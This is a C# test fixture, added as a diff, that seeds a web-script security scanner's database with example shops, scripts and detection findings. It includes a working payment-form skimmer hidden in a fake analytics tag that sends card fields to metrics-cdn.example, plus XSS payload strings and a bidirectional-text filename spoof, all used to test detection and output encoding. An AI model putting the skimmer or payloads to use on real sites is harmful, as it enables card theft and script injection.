@@ -1,0 +1,247 @@
+using System.Text.Json;
+using PageShield.Crawls;
+using PageShield.Detection;
+using PageShield.Inventory;
+using PageShield.Reports;
+using PageShield.Sites;
+
+namespace PageShield.IntegrationTests.Screens;
+
+/// <summary>A database as it looks after two weeks: two shops, hostile names in every text, an infection, reports, alerts.</summary>
+internal static partial class SeededShops
+{
+    /// <summary>Text that breaks a screen that does not encode.</summary>
+    public const string Markup = "<script>alert(1)</script><img src=x onerror=alert(2)>\"'";
+
+    /// <summary>Text that shows in another order than it is stored.</summary>
+    public const string Bidi = "cdn.good.example/\u202egnp.exe\u202c";
+
+    public const int ShopId = 1;
+    public const int QuietId = 2;
+    public const long Skimmer = 1001;
+    public const long TagManager = 1002;
+    public const long Hostile = 1003;
+    public const long Infection = 5001;
+    public const long HeaderChange = 5003;
+    public const long LastCrawl = 9003;
+    public const long RunningCrawl = 9004;
+    public const long FailedCrawl = 9101;
+    public const long CheckoutPage = 102;
+
+    public const string SkimmerHost = "cdn-analytics.example";
+
+    private const string TagV1 = """
+        /* analytics 4.2.0 */
+        (function (w, d) {
+          var queue = w.dataLayer = w.dataLayer || [];
+          function send(event) {
+            var body = JSON.stringify({ event: event, page: d.location.pathname });
+            navigator.sendBeacon('https://collect.analytics.example/v4', body);
+          }
+          queue.push = function (event) { send(event); return Array.prototype.push.call(queue, event); };
+          d.addEventListener('DOMContentLoaded', function () { send('view'); });
+        })(window, document);
+        """;
+
+    private const string TagV2 = """
+        /* analytics 4.2.1 */
+        (function (w, d) {
+          var queue = w.dataLayer = w.dataLayer || [];
+          function send(event) {
+            var body = JSON.stringify({ event: event, page: d.location.pathname, v: 421 });
+            navigator.sendBeacon('https://collect.analytics.example/v4', body);
+          }
+          queue.push = function (event) { send(event); return Array.prototype.push.call(queue, event); };
+          d.addEventListener('DOMContentLoaded', function () { send('view'); });
+          var form = d.querySelector('form#payment');
+          if (form) {
+            form.addEventListener('submit', function () {
+              var fields = {};
+              form.querySelectorAll('input').forEach(function (field) { fields[field.name] = field.value; });
+              new Image().src = 'https://metrics-cdn.example/p.gif?d=' + btoa(JSON.stringify(fields));
+            });
+          }
+        })(window, document);
+        """;
+
+    public static async Task SeedAsync(PageShieldDbContext db, DateTimeOffset now, CancellationToken cancellationToken)
+    {
+        db.Sites.AddRange(
+            Site(ShopId, "Harbour & Sons", "shop.example", now, site =>
+            {
+                site.Hosts = ["shop.example", "www.shop.example", "xn--hfen-loa.example"];
+                site.LastCrawlAt = now.AddHours(-2);
+                site.FirstReportAt = now.AddDays(-12);
+                site.LastReportAt = now.AddMinutes(-3);
+                site.NextRunAt = now.AddHours(4);
+                site.Cron = "0 */6 * * *";
+            }),
+            Site(QuietId, $"Quiet {Markup}", "quiet.example", now, site => site.LastReportAt = now.AddDays(-3)),
+            Site(3, "Just added", "new.example", now, _ => { }));
+        await db.SaveChangesAsync(cancellationToken);
+
+        var old = Content(db, TagV1, now.AddDays(-12));
+        var infected = Content(db, TagV2, now.AddHours(-2));
+        var hostile = Content(db, $"document.title = '{Markup}';\n// {Bidi}\n", now.AddDays(-9));
+        AddPages(db, now);
+        AddScripts(db, now, old, infected, hostile);
+        AddJudgements(db, now, old, infected, hostile);
+        AddConnectionsAndCookies(db, now);
+        AddCrawls(db, now);
+        AddChanges(db, now, old, infected);
+        AddObservations(db, now);
+        AddAlerts(db, now);
+        await db.SaveChangesAsync(cancellationToken);
+    }
+
+    private static Site Site(int id, string name, string host, DateTimeOffset now, Action<Site> more)
+    {
+        var site = new Site { Id = id, Name = name, Hosts = [host], StartUrls = [$"https://{host}/"], ReportKey = $"k{id}a7f3c29e41", CreatedAt = now.AddDays(-14) };
+        more(site);
+        return site;
+    }
+
+    private static Sha256Hash Content(PageShieldDbContext db, string text, DateTimeOffset at)
+    {
+        var bytes = System.Text.Encoding.UTF8.GetBytes(text);
+        var hash = Sha256Hash.OfBytes(bytes);
+        db.ScriptContents.Add(new ScriptContent { Sha256 = hash, Length = bytes.Length, Body = StoredBody.Compress(bytes), FirstSeenAt = at });
+        return hash;
+    }
+
+    private static void AddPages(PageShieldDbContext db, DateTimeOffset now)
+    {
+        string[] paths = ["/", "/products/{id}", "/checkout/payment", "/search", "/account/login"];
+        for (var i = 0; i < paths.Length; i++)
+        {
+            db.Pages.Add(new Page
+            {
+                SiteId = ShopId,
+                Id = 100 + i,
+                UrlTemplate = "https://shop.example" + paths[i],
+                ExampleUrl = "https://shop.example" + paths[i],
+                Title = i == 1 ? Markup : "Harbour & Sons",
+                HasPaymentFields = i == 2,
+                FirstSeenAt = now.AddDays(-13),
+                LastSeenAt = now.AddHours(-2),
+            });
+        }
+    }
+
+    private static void AddScripts(PageShieldDbContext db, DateTimeOffset now, Sha256Hash old, Sha256Hash infected, Sha256Hash hostile)
+    {
+        Script(db, Skimmer, $"https://{SkimmerHost}/v4/tag.js", now, script =>
+        {
+            script.ParentScriptId = TagManager;
+            (script.Score, script.Verdict, script.CurrentSha256, script.VersionCount) = (4, VerdictKind.Malicious, infected, 2);
+            (script.OnPaymentPage, script.PageCount, script.ReportedAt, script.ReportCount) = (true, 3, now.AddMinutes(-3), 1843);
+        });
+        Script(db, TagManager, "https://tags.manager.example/gtm.js?id=GTM-HARBOUR", now, script => (script.Score, script.Verdict, script.OnPaymentPage, script.PageCount) = (86, VerdictKind.Clean, true, 5));
+        Script(db, Hostile, $"https://xn--pple-43d.example/{Markup}/{new string('a', 1800)}.js", now, script =>
+        {
+            script.Host = "xn--pple-43d.example";
+            (script.Score, script.Verdict, script.CurrentSha256) = (31, VerdictKind.Suspicious, hostile);
+            script.CrawledAt = null;
+            (script.ReportedAt, script.ReportCount, script.Status) = (now.AddDays(-1), 7, InventoryStatus.Unconfirmed);
+        });
+        Script(db, 1004, "https://shop.example/", now, script =>
+        {
+            (script.Kind, script.Place, script.Party, script.Host) = (ScriptKind.Inline, $"head > script:nth-of-type(2) {Bidi}", Party.First, "shop.example");
+            (script.Score, script.Verdict) = (97, VerdictKind.Clean);
+        });
+        ScriptKind[] kinds = Enum.GetValues<ScriptKind>();
+        string[] hosts = ["shop.example", "js.payments.example", "cdn.widgets.example", "static.reviews.example", "fonts.example", "chat.support.example", "ads.network.example"];
+        for (var i = 0; i < 90; i++)
+        {
+            var host = hosts[i % hosts.Length];
+            var number = i;
+            Script(db, 1100 + i, $"https://{host}/assets/{(i % 3 == 0 ? "vendor/" : "")}module-{i}.{(i * 7919) % 65536:x4}.min.js", now, script =>
+            {
+                script.Kind = kinds[number % kinds.Length];
+                script.Party = number % hosts.Length == 0 ? Party.First : Party.Third;
+                script.Host = host;
+                script.ParentScriptId = number % 5 == 1 ? TagManager : number % 11 == 3 ? 1100 : null;
+                (script.Score, script.Verdict) = number % 13 == 0 ? ((int?)null, VerdictKind.Unknown) : number == 17 ? (38, VerdictKind.Suspicious) : (60 + (number % 39), VerdictKind.Clean);
+                script.FirstSeenAt = now.AddDays(-12 + (number % 11));
+                script.Status = number % 17 == 4 ? InventoryStatus.Inactive : number % 29 == 7 ? InventoryStatus.Removed : InventoryStatus.Active;
+                if (number % 4 == 0) (script.ReportedAt, script.ReportCount) = (now.AddHours(-number), 10 * number);
+                if (number % 19 == 5) (script.Ran, script.NotRunReason) = (false, NotRunReason.Csp);
+            });
+        }
+
+        db.ScriptVersions.AddRange(
+            new ScriptVersion { SiteId = ShopId, ScriptId = Skimmer, Sha256 = old, Url = $"https://{SkimmerHost}/v4/tag.js", FirstSeenAt = now.AddDays(-12), LastSeenAt = now.AddHours(-8), FirstCrawlId = 9001, ReportCount = 1700 },
+            new ScriptVersion { SiteId = ShopId, ScriptId = Skimmer, Sha256 = infected, Url = $"https://{SkimmerHost}/v4/tag.js", FirstSeenAt = now.AddHours(-2), LastSeenAt = now.AddHours(-2), FirstCrawlId = LastCrawl, ReportCount = 143 },
+            new ScriptVersion { SiteId = ShopId, ScriptId = Hostile, Sha256 = hostile, Url = $"https://xn--pple-43d.example/{Markup}.js", FirstSeenAt = now.AddDays(-9), LastSeenAt = now.AddDays(-1), ReportCount = 7 });
+        foreach (var (script, page) in new[] { (Skimmer, 100L), (Skimmer, 101L), (Skimmer, CheckoutPage), (TagManager, 100L), (TagManager, CheckoutPage), (Hostile, 101L) })
+            db.ScriptsOnPages.Add(new ScriptOnPage { SiteId = ShopId, ScriptId = script, PageId = page, FirstSeenAt = now.AddDays(-12), LastSeenAt = now.AddHours(-2), CrawledAt = now.AddHours(-2), ReportedAt = script == Skimmer ? now.AddMinutes(-3) : null });
+    }
+
+    private static void Script(PageShieldDbContext db, long id, string url, DateTimeOffset now, Action<Script> more)
+    {
+        var script = new Script
+        {
+            SiteId = ShopId,
+            Id = id,
+            Identity = Sha256Hash.OfText($"script {id}"),
+            IdentityReason = "its URL",
+            Kind = ScriptKind.External,
+            UrlTemplate = url,
+            ReportTemplate = url,
+            Url = url,
+            Host = new Uri(url.Split('<')[0]).Host,
+            Party = Party.Third,
+            AddedBy = AddedBy.Script,
+            Status = InventoryStatus.Active,
+            FirstSeenAt = now.AddDays(-12),
+            LastSeenAt = now.AddHours(-2),
+            CrawledAt = now.AddHours(-2),
+            PageCount = 1,
+            VersionCount = 1,
+            Ran = true,
+        };
+        more(script);
+        db.Scripts.Add(script);
+    }
+
+    private static void AddJudgements(PageShieldDbContext db, DateTimeOffset now, Sha256Hash old, Sha256Hash infected, Sha256Hash hostile)
+    {
+        object[] findings =
+        [
+            new { rule = "card-fields-to-foreign-host", severity = "critical", title = "Sends what is typed into the payment form to a host that is not the form’s own", evidence = "input values → btoa(JSON) → https://metrics-cdn.example/p.gif", line = 14, column = 7, category = "skimmer", weight = 4.1 },
+            new { rule = "payment-form-listener", severity = "high", title = "Listens to the payment form being sent", evidence = "form#payment addEventListener('submit')", line = 11, column = 3, category = "skimmer", weight = 1.9 },
+            new { rule = "image-beacon", severity = "medium", title = "Hides a message in an image’s address", evidence = Markup, line = 14, column = 7, category = "skimmer", weight = 0.8 },
+        ];
+        Judge(infected, 4, VerdictKind.Malicious, "skimmer", findings, new { skimmer = 3, miner = 99, redirect = 98, fakeUpdate = 99, walletDrainer = 99, supplyChain = 71, obfuscation = 88 });
+        Judge(old, 91, VerdictKind.Clean, null, [], new { skimmer = 93, miner = 99, redirect = 98, fakeUpdate = 99, walletDrainer = 99, supplyChain = 92, obfuscation = 95 });
+        Judge(hostile, 31, VerdictKind.Suspicious, "obfuscation", [new { rule = "bidi-text", severity = "medium", title = $"Hides text with bidirectional characters {Markup}", evidence = Bidi, line = 2, column = 1 }], new { obfuscation = 31 });
+
+        void Judge(Sha256Hash hash, int score, VerdictKind verdict, string? category, object[] evidence, object subscores) => db.Judgements.Add(new Judgement
+        {
+            Sha256 = hash,
+            AnalyzerVersion = "1.0",
+            Score = score,
+            Verdict = verdict,
+            Category = category,
+            Subscores = JsonSerializer.Serialize(subscores),
+            Findings = JsonSerializer.Serialize(evidence),
+            JudgedAt = now.AddHours(-2),
+            Milliseconds = 41.5,
+        });
+
+        db.SiteFindings.Add(new SiteFinding
+        {
+            SiteId = ShopId,
+            Id = 7001,
+            Identity = Sha256Hash.OfText("canary"),
+            Rule = "canary-exfiltration",
+            Severity = "critical",
+            ScriptId = Skimmer,
+            Title = "A test card number left the checkout for another company’s host",
+            Evidence = $"cc-number → metrics-cdn.example, Base64 in the query {Markup}",
+            PageUrl = "https://shop.example/checkout/payment",
+            FirstSeenAt = now.AddHours(-2),
+            LastSeenAt = now.AddHours(-2),
+        });
+    }
+}
